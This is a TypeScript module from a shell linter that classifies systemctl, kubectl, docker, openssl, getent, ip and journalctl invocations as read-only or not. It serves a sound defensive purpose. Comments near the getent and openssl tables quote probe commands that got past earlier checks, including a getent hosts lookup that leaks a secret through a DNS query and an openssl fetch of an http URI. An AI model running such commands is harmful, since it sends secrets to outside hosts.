// Tools whose first operand is a verb (systemctl, kubectl, docker, ip, service, pg_ctl, openssl, journalctl's
// options), read by each tool's own grammar: its global options (a value skipped as the value it is), then the
// verb, which must be one of the verbs reviewed as reads, then that verb's reviewed options. A word later in the
// line is an operand, never the verb; a verb built from a value, an unknown verb or option is not proven.
import type { SimpleCommand, Word } from '../shell-words.js';
import type { ReadOnlyFinding } from './read-commands.js';
import { mayBeOption, parseOptions, shownWord, type Options, type ParsedOptions } from './read-options.js';

interface VerbTool {
  /** Options before the verb (the tool's global options). */
  global: Options;
  /** The reviewed verbs, each with its options (the global ones may follow the verb too when `anywhere`). */
  verbs: Record<string, Options>;
  /** Verbs naming a group (`docker container ls`): the reviewed verbs of each group. */
  groups?: Record<string, Record<string, Options>>;
  /** Global options are also accepted after the verb (getopt permutes; kubectl's flags are everywhere). */
  anywhere?: boolean;
  /** What the tool runs when no verb is given is a read (`systemctl` lists units). */
  bareReads?: boolean;
  /** Every option a reviewed verb has only reads (docker's global options come before the verb only), so a
   *  value after the verb that becomes an option still reads. */
  verbOptionsRead?: boolean;
  /** Every word names a local file, never a URI: openssl loads an `-in` or a certificate operand that starts with
   *  `http://` over the network (X509_load_http), and its stores take other schemes. */
  plainPaths?: boolean;
}

const merge = (a: Options, b: Options): Options => ({
  flags: (a.flags ?? '') + (b.flags ?? ''), valued: (a.valued ?? '') + (b.valued ?? ''), long: `${a.long ?? ''} ${b.long ?? ''}`,
  ...(b.anyOptionReads ? { anyOptionReads: true } : {}), ...(b.numeric ? { numeric: true } : {}),
});

// Not -H/--host (ssh to another machine) nor -M/--machine (a container's manager): the local manager only.
const SYSTEMCTL_OPTIONS: Options = { flags: 'alqr', valued: 'tpno', long: 'type= state= property= all full recursive no-pager no-legend lines= output= quiet plain value user system failed reverse after before with-dependencies show-types timestamp= no-ask-password' };
const systemctl: VerbTool = {
  global: SYSTEMCTL_OPTIONS, anywhere: true, bareReads: true,
  verbs: Object.fromEntries(['status', 'is-active', 'is-enabled', 'is-failed', 'is-system-running', 'show', 'cat', 'list-units', 'list-unit-files',
    'list-sockets', 'list-timers', 'list-dependencies', 'list-jobs'].map((v) => [v, { ...SYSTEMCTL_OPTIONS, anyOptionReads: true }])),
};

// kubectl: --kubeconfig names credential plugins it runs, --cache-dir writes, -s/--server sends the request to
// any address the author writes (a network client, whatever listens there): not reviewed.
const KUBECTL_GLOBAL: Options = { valued: 'nv', long: 'namespace= context= cluster= user= request-timeout= token= insecure-skip-tls-verify certificate-authority= v=' };
const KUBECTL_GET: Options = { flags: 'Aw', valued: 'loL', long: 'all-namespaces output= selector= field-selector= show-labels no-headers sort-by= label-columns= chunk-size= ignore-not-found show-kind watch output-watch-events' };
const KUBECTL_LOGS: Options = { flags: 'fp', valued: 'cl', long: 'container= all-containers follow previous since= since-time= tail= timestamps prefix selector= limit-bytes= max-log-requests= ignore-errors pod-running-timeout=' };
const kubectl: VerbTool = {
  global: KUBECTL_GLOBAL, anywhere: true,
  verbs: {
    // Boolean flags (pflag) take a value only glued (`--show-events=false`): the next word is kubectl's own.
    get: KUBECTL_GET, describe: { flags: 'A', valued: 'l', long: 'all-namespaces selector= show-events[=] chunk-size=' }, logs: KUBECTL_LOGS,
    top: { flags: 'A', valued: 'l', long: 'all-namespaces selector= containers no-headers sort-by= use-protocol-buffers' },
    version: { valued: 'o', long: 'client output=' }, 'api-resources': { valued: 'o', long: 'namespaced[=] api-group= output= verbs= no-headers' },
    'cluster-info': {}, explain: { long: 'recursive api-version= output=' },
  },
  groups: {
    config: { view: { valued: 'o', long: 'minify flatten raw output=' }, 'current-context': {}, 'get-contexts': { valued: 'o', long: 'output= no-headers' } },
    rollout: { status: { flags: 'w', long: 'watch[=] revision= timeout=' }, history: { long: 'revision=' } },
  },
};

// docker: --config names credential helpers it runs, -H/--host any daemon address (ssh:// runs ssh, tcp:// sends
// the request to whatever listens): not reviewed; nor --tls, --tlsverify and the files they read, which with no
// host make docker send its requests to tcp://localhost:2376, to whatever listens there (a probe of stop 72).
// Global options come before the verb only.
const DOCKER_GLOBAL: Options = { flags: 'D', valued: 'cl', long: 'context= log-level= debug' };
const DOCKER_PS: Options = { flags: 'aqsl', valued: 'fn', long: 'all quiet size latest last= filter= format= no-trunc' };
const DOCKER_LOGS: Options = { flags: 'ft', valued: 'n', long: 'follow timestamps tail= since= until= details' };
const DOCKER_INSPECT: Options = { flags: 's', valued: 'f', long: 'format= size type=' };
const DOCKER_IMAGES: Options = { flags: 'aq', valued: 'f', long: 'all quiet digests filter= format= no-trunc' };
const DOCKER_STATS: Options = { flags: 'a', long: 'all no-stream no-trunc format=' };
const docker: VerbTool = {
  global: DOCKER_GLOBAL, verbOptionsRead: true,
  verbs: {
    ps: DOCKER_PS, logs: DOCKER_LOGS, inspect: DOCKER_INSPECT, port: {}, version: { valued: 'f', long: 'format=' }, info: { valued: 'f', long: 'format=' },
    stats: DOCKER_STATS, top: { anyOptionReads: true }, images: DOCKER_IMAGES, diff: {}, history: { flags: 'qH', long: 'quiet human no-trunc format=' },
  },
  groups: {
    container: { ls: DOCKER_PS, ps: DOCKER_PS, list: DOCKER_PS, logs: DOCKER_LOGS, inspect: DOCKER_INSPECT, port: {}, top: { anyOptionReads: true }, stats: DOCKER_STATS, diff: {} },
    image: { ls: DOCKER_IMAGES, list: DOCKER_IMAGES, inspect: DOCKER_INSPECT, history: { flags: 'qH', long: 'quiet human no-trunc format=' } },
    network: { ls: { flags: 'q', valued: 'f', long: 'filter= format= no-trunc quiet' }, inspect: DOCKER_INSPECT },
    volume: { ls: { flags: 'q', valued: 'f', long: 'filter= format= quiet' }, inspect: DOCKER_INSPECT },
    system: { df: { flags: 'v', long: 'verbose format=' }, info: { valued: 'f', long: 'format=' } },
  },
};

const pg_ctl: VerbTool = { global: { valued: 'D', long: 'pgdata=' }, anywhere: true, verbs: { status: {} } };

// openssl: -engine, -provider, -config load code; -out and friends write. s_client sends its input to the
// server, so it is not here (a client acting on another system).
const OPENSSL_X509: Options = { singleDash: true, long: 'in= inform= noout text subject issuer dates startdate enddate serial fingerprint sha1 sha256 purpose email hash subject_hash issuer_hash ocsp_uri modulus pubkey nameopt= ext= checkend= certopt=' };
const openssl: VerbTool = {
  global: {}, plainPaths: true, verbs: {
    x509: OPENSSL_X509, version: { flags: 'abdfopv' }, ciphers: { flags: 'vV', singleDash: true, long: 's tls1_2 tls1_3 stdname' },
    verify: { singleDash: true, long: 'CAfile= CApath= untrusted= purpose= verify_hostname= show_chain partial_chain x509_strict no-CAfile no-CApath' },
    crl: { singleDash: true, long: 'in= inform= noout text issuer lastupdate nextupdate hash fingerprint' },
  },
};

/** A word that starts with a URI scheme (`http:`, `file:`, `org.openssl.winstore:`), or an option whose glued
 *  value does: openssl's own parser splits `-in=http://…` at the `=` (a probe of stop 67 sent lines that way). */
const URI = /^(?:-[^=]*=)?[A-Za-z][A-Za-z0-9+.-]*:/;

// getent's first operand is the database: only those NSS reads from local files in a usual setup. Not hosts, ahosts*,
// networks: glibc's dns module sends the key to the resolver, and so to whoever runs the key's domain (a probe of
// stop 68: `getent -- hosts "${'$'}{{ secret }}.example"` sent the secret out in a query, in a dry run too); not -s.
const GETENT_OPTIONS: Options = { flags: 'i', long: 'no-idn', anyOptionReads: true };
const getent: VerbTool = {
  global: GETENT_OPTIONS, anywhere: true,
  verbs: Object.fromEntries(['passwd', 'group', 'services', 'protocols', 'rpc'].map((v) => [v, GETENT_OPTIONS])),
};

const TOOLS: Record<string, VerbTool> = { systemctl, kubectl, docker, pg_ctl, openssl, getent };

/** Every reviewed verb of every verb tool, with the options it accepts: for the tests and the docs. */
export function reviewedVerbs(): { words: string[]; options: Options }[] {
  return Object.entries(TOOLS).flatMap(([name, tool]) => {
    const spec = (o: Options) => (tool.anywhere ? merge(tool.global, o) : o);
    return [
      ...Object.entries(tool.verbs).map(([verb, o]) => ({ words: [name, verb], options: spec(o) })),
      ...Object.entries(tool.groups ?? {}).flatMap(([group, verbs]) => Object.entries(verbs).map(([verb, o]) => ({ words: [name, group, verb], options: spec(o) }))),
    ];
  });
}
export const isVerbTool = (name: string): boolean => name in TOOLS;

/** How a verb tool's words read: not proven (why), no verb (`systemctl` alone), or the verb (with its group:
 *  `config view`) and the words after it as the verb's own options read them. */
type VerbReading = { finding: ReadOnlyFinding } | { verb: string[]; parsed: ParsedOptions } | { bare: true };

/** `loose`: words that may become options at run time are read as the operands they are written as (for what a
 *  read may reach, where reading more is the safe side), not refused. */
function readVerb(name: string, args: Word[], loose = false): VerbReading {
  const tool = TOOLS[name]!;
  const uri = tool.plainPaths ? args.find((w) => !w.dynamic && URI.test(w.text)) : undefined;
  if (uri) return { finding: { unknown: `'${name} … ${shownWord(uri.text)}': ${name} fetches a URI over the network (a stop-66 probe sent lines to a local service with 'openssl x509 -in http://…'); name a local file` } };
  const before = parseOptions(name, args, { ...tool.global, inOrder: true, ...(loose ? { anyOptionReads: true } : {}) });
  if ('finding' in before) return before;
  const [verb, ...rest] = before.operands;
  if (!verb) return tool.bareReads ? { bare: true } : { finding: { unknown: `'${name}' without a verb` } };
  if (verb.dynamic || verb.pattern || mayBeOption(verb)) return { finding: { unknown: `'${name} ${shownWord(verb.text)}': a verb built from a value` } };
  let spec = tool.verbs[verb.text];
  let operands = rest;
  const words = [verb.text];
  const group = tool.groups?.[verb.text];
  if (group) {
    const sub = rest[0];
    if (!sub || sub.dynamic || sub.pattern || !group[sub.text]) return { finding: { unknown: `'${name} ${verb.text} ${shownWord(sub?.text ?? '')}': not a verb reviewed as a read (${Object.keys(group).join(', ')})` } };
    spec = group[sub.text];
    operands = rest.slice(1);
    words.push(sub.text);
  }
  if (!spec) return { finding: { unknown: `'${name} ${shownWord(verb.text)}': not a verb of ${name} reviewed as a read (${Object.keys(tool.verbs).join(', ')}${tool.groups ? `, ${Object.keys(tool.groups).join(', ')} …` : ''})` } };
  const options = tool.anywhere ? merge(tool.global, spec) : spec;
  const parsed = parseOptions(`${name} ${words.join(' ')}`, operands, tool.verbOptionsRead || loose ? { ...options, anyOptionReads: true } : options);
  return 'finding' in parsed ? parsed : { verb: words, parsed };
}

/** The verdict for `name args…`, `name` being a verb tool. */
export function verbFinding(name: string, args: Word[]): ReadOnlyFinding {
  const r = readVerb(name, args);
  return 'finding' in r ? r.finding : undefined;
}

/** The reviewed verb of `name args…` and its parsed words, when its options are reviewed ones (a word built
 *  from a value counts as the operand it stands as). */
export function verbWords(name: string, args: Word[]): { verb: string[]; parsed: ParsedOptions } | undefined {
  const r = isVerbTool(name) ? readVerb(name, args, true) : undefined;
  return r && 'verb' in r ? r : undefined;
}

/** `ip [-OPTIONS] OBJECT [COMMAND …]`: only showing, listing and route look-ups read (no command means show).
 *  `-batch` reads commands from a file; `ip netns exec` runs a command (unwrapped in shell-lint.ts). */
// ip reads each option as one word, matched by any prefix (`-ba` is -batch): only the exact words listed here.
export const IP_GLOBAL: Options = { inOrder: true, singleDash: true, long: 'f= family= 4 6 0 s stats statistics d details r resolve j json p pretty c color o oneline br brief N numeric' };
const IP_READS = /^(show|list|lst|ls|get|help)$/;
const IP_OBJECTS = /^(link|address|addr|a|route|r|rule|neighbor|neighbour|neigh|n|maddress|maddr|mroute|tunnel|tuntap|netns|netconf|nexthop|monitor|token|vrf|l2tp|fou|macsec|mptcp|ioam|sr|stats|ntable|xfrm|tcp_metrics|tcpmetrics)$/;
export function ipFinding(args: Word[]): ReadOnlyFinding {
  const p = parseOptions('ip', args, IP_GLOBAL);
  if ('finding' in p) return p.finding;
  const [object, command] = p.operands;
  if (!object) return undefined;
  if (object.dynamic || object.pattern || !IP_OBJECTS.test(object.text)) return { unknown: `'ip ${shownWord(object.text)}': not an object of ip` };
  if (object.text === 'monitor' || object.text === 'mptcp' && command?.text === 'monitor') return undefined;
  if (!command) return undefined;
  if (command.dynamic || command.pattern) return { unknown: `'ip ${object.text} ${shownWord(command.text)}': a command built from a value` };
  return IP_READS.test(command.text) ? undefined : { looks: `ip ${object.text} ${command.text}` };
}

/** `service NAME status` and `service --status-all`; anything else (`service pg start status`) acts or is unknown. */
export function serviceFinding(args: Word[]): ReadOnlyFinding {
  if (args.length === 1 && args[0]!.text === '--status-all') return undefined;
  const [unit, verb, ...more] = args;
  // service runs /etc/init.d/NAME: a name built from a value may climb out of it (`../../tmp/x`).
  if (!unit || !verb || more.length || unit.dynamic || unit.pattern || !/^[A-Za-z0-9_@.-]+$/.test(unit.text) || unit.text.startsWith('-') || unit.text.includes('..')) return { unknown: `'service ${args.map((w) => shownWord(w.text)).join(' ')}': only 'service NAME status' and 'service --status-all' are reviewed as reads` };
  if (verb.dynamic || verb.text !== 'status') return { looks: `service ${shownWord(unit.text)} ${shownWord(verb.text)}` };
  return undefined;
}

/** `pg_ctlcluster VERSION CLUSTER status`. */
export function pgCtlclusterFinding(args: Word[]): ReadOnlyFinding {
  const [version, cluster, verb, ...more] = args;
  if (!version || !cluster || !verb || more.length || [version, cluster].some((w) => w.dynamic || w.pattern || !/^[A-Za-z0-9_-]+$/.test(w.text) || w.text.startsWith('-'))) return { unknown: "only 'pg_ctlcluster VERSION CLUSTER status' is reviewed as a read" };
  return verb.text === 'status' && !verb.dynamic ? undefined : { looks: `pg_ctlcluster ${shownWord(verb.text)}` };
}

/** journalctl: reading the journal; vacuuming, rotating, flushing or a cursor file write. -n/--lines take an
 *  optional value: journalctl takes the next word as it only when that word is a number (linesArgs). */
export const JOURNALCTL: Options = { flags: 'aefklmNqrxb', valued: 'ouptSUgDMFi', optional: 'n',
  long: 'unit= user-unit= identifier= priority= since= until= lines[=] boot[=] grep= case-sensitive[=] output= output-fields= no-pager pager-end follow reverse all full no-full no-tail quiet merge system user directory= file= machine= field= fields catalog utc no-hostname show-cursor after-cursor= cursor= dmesg list-boots disk-usage facility= namespace= header' };
export function journalctlFinding(args: Word[], _cmd: SimpleCommand): ReadOnlyFinding {
  if (args.some((w) => /^--(vacuum-\w+|rotate|flush|sync|relinquish-var|smart-relinquish-var|setup-keys|update-catalog|cursor-file)/.test(w.text))) return { looks: `journalctl ${args.find((w) => w.text.startsWith('--vacuum') || /^--(rotate|flush|sync|relinquish|smart|setup|update|cursor-file)/.test(w.text))!.text}` };
  const p = parseOptions('journalctl', linesArgs(args), JOURNALCTL);
  return 'finding' in p ? p.finding : undefined;
}

/** journalctl reads `-n 5` and `--lines 5` as `-n5`: the next word is the count only when it is a number (a
 *  literal one: `-n --rot` is -n, then --rotate, which the lint read as -n's value). Joined so, the rest is
 *  getopt's reading of an optional value. */
function linesArgs(args: Word[]): Word[] {
  const out: Word[] = [];
  for (let k = 0; k < args.length; k++) {
    const w = args[k]!;
    const next = args[k + 1];
    const takes = /^(-[aefklmNqrxb]*n|--lines)$/.test(w.text) && !w.dynamic; // flags, then n
    if (takes && next && !next.dynamic && !next.pattern && /^([+-]?\d+|all)$/.test(next.text)) {
      out.push({ ...w, text: `${w.text}${w.text.startsWith('--') ? '=' : ''}${next.text}` });
      k++;
    } else out.push(w);
  }
  return out;
}
